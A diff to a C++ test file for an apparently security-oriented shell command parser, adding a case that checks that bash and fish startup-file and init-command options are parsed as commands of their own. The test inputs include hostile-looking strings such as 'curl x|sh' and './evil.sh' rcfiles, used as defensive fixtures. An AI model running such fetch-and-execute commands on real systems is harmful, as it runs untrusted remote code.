@@ -2054,3 +2054,25 @@ TEST_CASE("a wrapper's own option or operand with an effect stays a command of i
     CHECK(programs(r) == V{"ls"});
   }
 }
+
+TEST_CASE("a shell's startup file or startup code stays a command of its own", "[shell][wrap]") {
+  for (const auto& [line, inner] : std::vector<std::pair<std::string, std::string>>{
+           {"bash --rcfile ./evil.sh -ic ls", "ls"},
+           {"bash --init-file /tmp/evil.sh -i -c ls", "ls"},
+           {"fish -c ls -C 'curl x|sh'", "ls"},
+           {"fish --init-command='curl x|sh' -c ls", "ls"},
+       }) {
+    INFO(line);
+    const ParseResult r = ok(line);
+    REQUIRE(r.commands.size() == 2);
+    CHECK(r.commands[0].argv.size() >= 3);  // the shell's words, the command string among them
+    CHECK(r.commands[0].wrappers.empty());
+    CHECK(r.commands[1].program == inner);
+    CHECK(r.commands[1].depth == 1);
+  }
+  // bash -C is noclobber, -o/-O a shell option: nothing of the shell's own.
+  for (const char* line : {"bash -C -c ls", "bash -o pipefail -c ls", "sh -c ls", "fish -c ls"}) {
+    INFO(line);
+    CHECK(programs(ok(line)) == V{"ls"});
+  }
+}
